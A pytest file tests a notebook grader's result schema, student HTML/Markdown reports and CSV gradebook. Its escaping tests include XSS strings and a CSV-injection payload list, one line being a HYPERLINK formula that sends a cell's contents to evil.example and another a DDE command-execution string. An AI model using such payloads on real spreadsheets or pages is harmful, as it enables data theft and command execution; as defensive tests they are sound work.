"""The report stage: result.json against its schema, the student reports, the gradebook."""

from __future__ import annotations

import csv
import dataclasses
import json
import re
from pathlib import Path

import pytest
from sample_results import SHA, graded_result

from grader import files, report
from grader.errors import UsageError
from grader.results import (
    SCHEMA_VERSION,
    Assessment,
    Baseline,
    CheckResult,
    CheckStatus,
    Curve,
    GradeResult,
    LearningRateCurves,
    Location,
    SkippedStatement,
    SnippetLine,
    Status,
    TrialResult,
    TrialStatus,
)

GOLDENS = Path(__file__).parent / "goldens"


def _graded(id: str = "josé") -> GradeResult:
    """A fixed, fully populated graded result (also the goldens' input)."""
    return graded_result(id)


def _failed(status: Status, message: str) -> GradeResult:
    return GradeResult.without_results(
        Assessment("fashion-mnist-polynomial-decay", "default", 10.0),
        id=f"student-{status.value}",
        sha256=SHA,
        status=status,
        message=message,
    )


def _schema() -> dict:
    return json.loads(report.SCHEMA_PATH.read_text(encoding="utf-8"))


def _leftovers(folder: Path) -> list[Path]:
    return [p for p in folder.rglob("*") if p.name.endswith(".tmp")]


# --- schema -----------------------------------------------------------------------------


def test_schema_lists_exactly_the_dataclass_fields() -> None:
    schema = _schema()
    nested = {
        "check": CheckResult,
        "trial": TrialResult,
        "baseline": Baseline,
        "skipped_statement": SkippedStatement,
        "location": Location,
        "snippet_line": SnippetLine,
        "curve": Curve,
        "learning_rate_curves": LearningRateCurves,
    }
    fields = [f.name for f in dataclasses.fields(GradeResult)]
    assert sorted(schema["properties"]) == sorted(fields)
    assert sorted(schema["required"]) == sorted(fields)
    for name, cls in nested.items():
        names = sorted(f.name for f in dataclasses.fields(cls))
        assert sorted(schema["$defs"][name]["properties"]) == names, name
        assert sorted(schema["$defs"][name]["required"]) == names, name


def test_schema_enums_and_version_follow_the_code() -> None:
    schema = _schema()
    assert schema["properties"]["schema_version"]["const"] == SCHEMA_VERSION
    assert schema["properties"]["status"]["enum"] == [s.value for s in Status]
    assert schema["$defs"]["check"]["properties"]["status"]["enum"] == [
        s.value for s in CheckStatus
    ]
    assert schema["$defs"]["trial"]["properties"]["status"]["enum"] == [
        s.value for s in TrialStatus
    ]


def test_schema_doc_describes_every_field() -> None:
    doc = (Path(__file__).parent.parent / "docs" / "result-schema.md").read_text(encoding="utf-8")
    for f in dataclasses.fields(GradeResult):
        assert f"`{f.name}`" in doc, f.name
    for status in Status:
        assert f"`{status.value}`" in doc, status


# --- result.json ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "result",
    [
        _graded(),
        _failed(Status.ERROR, "NameError: name 'x_train' is not defined (celda 4, línea 2)"),
        _failed(Status.TIMEOUT, "superó 240 s"),
        _failed(Status.REJECTED, "no es un cuaderno"),
        _failed(Status.RESOURCE_LIMIT, "memoria"),
    ],
    ids=lambda r: r.status.value,
)
def test_result_json_validates_and_round_trips(tmp_path: Path, result: GradeResult) -> None:
    path = report.write_result(result, tmp_path)
    assert path == tmp_path / result.id / "result.json"
    data = json.loads(path.read_text(encoding="utf-8"))
    report.validate(data)
    assert list(data) == list(result.to_dict())
    assert GradeResult.from_dict(data) == result
    assert report.read_result(path) == result
    assert _leftovers(tmp_path) == []


def test_result_json_is_readable_utf8(tmp_path: Path) -> None:
    text = report.write_result(_graded(), tmp_path).read_text(encoding="utf-8")
    assert '"id": "josé"' in text
    assert text.startswith(f'{{\n  "schema_version": "{SCHEMA_VERSION}",\n  "id": "josé",')


def test_nan_loss_is_written_as_null(tmp_path: Path) -> None:
    trial = dataclasses.replace(_graded().trials[0], history={"loss": [0.7, float("nan")]})
    result = dataclasses.replace(_graded(), trials=(trial,), test_loss=float("inf"))
    path = report.write_result(result, tmp_path)

    def refuse(token: str) -> None:
        raise AssertionError(f"non-standard JSON token {token}")

    data = json.loads(path.read_text(encoding="utf-8"), parse_constant=refuse)
    assert data["trials"][0]["history"]["loss"] == [0.7, None]
    assert data["test_loss"] is None


@pytest.mark.parametrize(
    "change",
    [
        {"status": "bogus"},
        {"test_accuracy": 1.5},
        {"score": -1.0},
        {"sha256": "not-a-hash"},
    ],
    ids=lambda c: next(iter(c)),
)
def test_schema_violation_is_a_bug_and_writes_nothing(tmp_path: Path, change: dict) -> None:
    result = dataclasses.replace(_graded(), **change)
    with pytest.raises(report.ResultSchemaError, match=next(iter(change))):
        report.write_result(result, tmp_path)
    assert not (tmp_path / result.id).exists() or list((tmp_path / result.id).iterdir()) == []


def test_schema_rejects_unknown_and_nan_fields() -> None:
    data = report.result_dict(_graded())
    with pytest.raises(report.ResultSchemaError):
        report.validate({**data, "extra": 1})
    trial = {**data["trials"][0], "extra": 1}
    with pytest.raises(report.ResultSchemaError, match="trials/0"):
        report.validate({**data, "trials": [trial]})
    # A NaN where null is not allowed is still an error after the NaN -> null conversion.
    trial = dataclasses.replace(_graded().trials[0], seconds=float("nan"))
    nan_seconds = dataclasses.replace(_graded(), trials=(trial,))
    with pytest.raises(report.ResultSchemaError, match="trials/0/seconds"):
        report.validate(report.result_dict(nan_seconds))


def test_failed_atomic_write_keeps_the_old_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = report.write_result(_graded(), tmp_path)
    before = path.read_bytes()

    def broken_replace(src: object, dst: object) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(files.os, "replace", broken_replace)
    with pytest.raises(OSError, match="disk full"):
        report.write_result(dataclasses.replace(_graded(), score=1.0), tmp_path)
    assert path.read_bytes() == before
    assert _leftovers(tmp_path) == []


# --- student reports --------------------------------------------------------------------


@pytest.mark.parametrize("lang", ["es", "en"])
def test_reports_show_visible_checks_and_hide_hidden_ones(tmp_path: Path, lang: str) -> None:
    result = _graded()
    paths = report.render_reports(result, tmp_path, lang=lang)
    assert [p.name for p in paths] == ["report.html", "report.md"]
    html, md = (p.read_text(encoding="utf-8") for p in paths)
    score = "7,5 / 10" if lang == "es" else "7.5 / 10"
    percent = "75,00 %" if lang == "es" else "75.00 %"
    hidden = "incluye 1 comprobación oculta" if lang == "es" else "includes 1 hidden check"
    for text in (html, md):
        assert score in text and percent in text and hidden in text
        for check in result.checks:
            if check.hidden:
                assert check.title not in text and check.message not in text
            else:
                assert check.title in text
        assert "Se usa ExponentialDecay en lugar de PolynomialDecay." in text
        assert result.notes[0] in text
        assert "josé" in text
    location = "celda 5, línea 12" if lang == "es" else "cell 5, line 12"
    assert location in html and location in md
    assert ("línea 40" if lang == "es" else "line 40") in html
    assert f'<html lang="{lang}">' in html


def test_reports_can_include_hidden_checks(tmp_path: Path) -> None:
    html, md = report.render_reports(_graded(), tmp_path, lang="en", include_hidden=True)
    for path in (html, md):
        text = path.read_text(encoding="utf-8")
        assert "Regla oculta del profesor" in text
        assert "hidden check" not in text


def test_html_is_self_contained_and_escapes_student_text(tmp_path: Path) -> None:
    html = report.render_reports(_graded(), tmp_path, lang="es")[0].read_text(encoding="utf-8")
    assert "http://" not in html and "https://" not in html
    assert "<script" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert '<meta name="viewport"' in html and "@media print" in html


def test_html_shows_each_checks_code_and_four_plots(tmp_path: Path) -> None:
    html = report.render_reports(_graded(), tmp_path, lang="en")[0].read_text(encoding="utf-8")
    # The located line is marked; the hostile snippet line is text, not markup.
    assert (
        '<span class="at"><i>12</i>        lr = keras.optimizers.schedules.ExponentialDecay('
        "</span>" in html
    )
    assert "# ``` and &lt;/pre&gt;&lt;script&gt;alert(2)&lt;/script&gt;" in html
    assert html.count("<figure>") == 4
    for name in ("learning_rate", "history", "trials", "accuracy"):
        assert re.search(f'<svg [^>]*id="plot-{name}"', html), name
    ids = re.findall(r'\bid="([^"]+)"', html)
    assert len(ids) == len(set(ids)), "four inline SVGs must not share an id"
    # The learning-rate caption names the values both curves were taken with.
    assert "<code>initial_learning_rate</code> = 0.2983" in html


def test_html_without_data_draws_no_plot(tmp_path: Path) -> None:
    result = _failed(Status.ERROR, "SyntaxError")
    html = report.render_reports(result, tmp_path, lang="es")[0].read_text(encoding="utf-8")
    assert "<svg" not in html and "<figure>" not in html


def test_markdown_escapes_student_text(tmp_path: Path) -> None:
    md = report.render_reports(_graded(), tmp_path, lang="es")[1].read_text(encoding="utf-8")
    # Student code is shown verbatim inside fenced blocks; everywhere else it is escaped.
    fenced = re.findall(r"^(`{3,})\n(.*?)^\1$", md, flags=re.MULTILINE | re.DOTALL)
    prose = re.sub(r"^(`{3,})\n.*?^\1$", "", md, flags=re.MULTILINE | re.DOTALL)
    assert "<script>" not in prose and "[x](" not in prose
    assert "alert(1)" in prose
    # The snippet holding ``` gets a longer fence, so that line cannot close the block.
    fence, block = next((f, b) for f, b in fenced if "alert(2)" in b)
    assert fence == "````"
    assert "→  12          lr = keras.optimizers.schedules.ExponentialDecay(" in block
    checks_table = md.split("## Comprobaciones\n\n")[1].split("\n\n")[0]
    for row in checks_table.splitlines():
        # Escaped pipes do not open new columns: 4 columns -> 5 unescaped bars.
        assert len(re.findall(r"(?<!\\)\|", row)) == 5, row
    assert "``tuner.search(x, y, `epochs`=100)``" in md


@pytest.mark.parametrize("status", [Status.ERROR, Status.TIMEOUT, Status.REJECTED])
@pytest.mark.parametrize("lang", ["es", "en"])
def test_reports_without_results_say_so(tmp_path: Path, status: Status, lang: str) -> None:
    result = _failed(status, "mensaje <del> del corrector")
    html, md = (
        p.read_text(encoding="utf-8") for p in report.render_reports(result, tmp_path, lang=lang)
    )
    label = report.UI[lang]["statuses"][status.value]
    for text in (html, md):
        assert report.UI[lang]["no_results"] in text
        assert label in text
        assert report.UI[lang]["checks"] not in text.replace(report.UI[lang]["no_results"], "")
    assert "mensaje &lt;del&gt; del corrector" in html
    assert "mensaje \\<del\\> del corrector" in md


def test_invalid_result_is_not_rendered(tmp_path: Path) -> None:
    with pytest.raises(report.ResultSchemaError, match="status"):
        report.render_reports(dataclasses.replace(_graded(), status="bogus"), tmp_path, lang="es")
    assert not (tmp_path / "josé").exists()


def test_unknown_language_is_a_usage_error(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="fr"):
        report.render_reports(_graded(), tmp_path, lang="fr")


def test_instructor_templates(tmp_path: Path) -> None:
    folder = tmp_path / "mine"
    folder.mkdir()
    (folder / "report.html.j2").write_text("<p>{{ result.id }} {{ result.score|num }}</p>\n")
    (folder / "report.md.j2").write_text("{{ result.id }}: {{ ui.statuses[result.status] }}\n")
    html, md = report.render_reports(_graded(), tmp_path / "out", lang="es", templates=folder)
    assert html.read_text(encoding="utf-8") == "<p>josé 7,5</p>\n"
    assert md.read_text(encoding="utf-8") == "josé: Corregida\n"

    (folder / "report.md.j2").write_text("{{ student_name }}\n")
    with pytest.raises(UsageError, match="student_name"):
        report.render_reports(_graded(), tmp_path / "out", lang="es", templates=folder)


# --- gradebook --------------------------------------------------------------------------


def test_gradebook(tmp_path: Path) -> None:
    results = [
        _failed(Status.TIMEOUT, "superó 240 s"),
        _graded("=HYPERLINK(1)"),
        _graded(),
    ]
    ids = ["structure", "schedule", "secret_rule", "optimizer"]
    path = report.write_gradebook(results, tmp_path, ids)
    assert path == tmp_path / "grades.csv"
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == [
        "id", "status", "score", "max_score", "percent", "test_accuracy",
        *ids, "needs_review", "message",
    ]  # fmt: skip
    assert [row[0] for row in rows[1:]] == ["'=HYPERLINK(1)", "josé", "student-timeout"]
    assert rows[2] == ["josé", "graded", "7.5", "10", "75.0", "85.12", "1", "0", "1", "", "", ""]
    assert rows[3] == [
        "student-timeout",
        "timeout",
        "0",
        "10",
        "0.0",
        "",
        "",
        "",
        "",
        "",
        "",
        "superó 240 s",
    ]
    assert _leftovers(tmp_path) == []


def test_gradebook_lists_the_checks_that_need_review(tmp_path: Path) -> None:
    graded = _graded()
    checks = tuple(
        dataclasses.replace(c, status=CheckStatus.NEEDS_REVIEW, points=0.0)
        if c.id == "schedule"
        else c
        for c in graded.checks
    )
    path = report.write_gradebook(
        [dataclasses.replace(graded, checks=checks)], tmp_path, ["schedule"]
    )
    with path.open(encoding="utf-8", newline="") as fh:
        header, row = list(csv.reader(fh))
    assert row[header.index("needs_review")] == "schedule"
    assert row[header.index("schedule")] == "0"


# --- goldens ----------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["report.md", "report.html"])
def test_golden(tmp_path: Path, request: pytest.FixtureRequest, name: str) -> None:
    rendered = {p.name: p for p in report.render_reports(_graded(), tmp_path, lang="es")}
    produced = rendered[name].read_bytes()
    golden = GOLDENS / name
    if request.config.getoption("--update-goldens"):
        golden.parent.mkdir(exist_ok=True)
        golden.write_bytes(produced)
        pytest.skip(f"rewrote {golden}")
    assert golden.is_file(), f"{golden} missing: run pytest --update-goldens"
    assert produced == golden.read_bytes(), f"{name} changed: review, then pytest --update-goldens"


# --- CSV injection, in every reading of the file ----------------------------------------

_DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
_PAYLOADS = [
    'nota;=HYPERLINK("http://evil.example/?"&A1;"aquí")',
    "ok,=1+1",
    "a\t@SUM(1)",
    "línea 1\n+cmd|' /C calc'!A0",
    '; "-2+3',
    "=HYPERLINK(1)",
]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_gradebook_has_no_formula_cell_whatever_the_separator(
    tmp_path: Path, delimiter: str
) -> None:
    """A spreadsheet that splits on ";" (Spanish locales) or tabs sees new cells after each
    separator inside a message or a file name: none may start with a formula character."""
    results = [_failed(Status.ERROR, message) for message in _PAYLOADS]
    results = [dataclasses.replace(r, id=f"{i};=HYPERLINK(x)") for i, r in enumerate(results)]
    path = report.write_gradebook(results, tmp_path, ["structure"])
    text = path.read_text(encoding="utf-8")
    # Also as a reader that knows no CSV quoting and splits every line on the separator.
    naive = [cell for line in text.splitlines() for cell in line.split(delimiter)]
    with path.open(encoding="utf-8", newline="") as fh:
        parsed = [cell for row in csv.reader(fh, delimiter=delimiter) for cell in row]
    for cell in parsed + naive:
        stripped = cell.lstrip(' "')
        assert not stripped.startswith(_DANGEROUS), (delimiter, cell)


def test_csv_cell_keeps_numbers_numbers_and_text_readable() -> None:
    assert report.csv_cell("7.5") == "7.5" and report.csv_cell("-3") == "-3"
    assert report.csv_cell("10") == "10" and report.csv_cell("") == ""
    assert report.csv_cell("-2+3") == "'-2+3"
    assert report.csv_cell("a;=B1") == "a;'=B1"
    assert report.csv_cell("nota: 7, bien") == "nota: 7, bien"  # nothing dangerous: unchanged


def test_gradebook_score_columns_stay_numeric(tmp_path: Path) -> None:
    path = report.write_gradebook([_graded("ana")], tmp_path, ["structure"])
    with path.open(encoding="utf-8", newline="") as fh:
        row = next(csv.DictReader(fh))
    for column in ("score", "max_score", "percent", "test_accuracy"):
        float(row[column])  # no quote prefix on a number
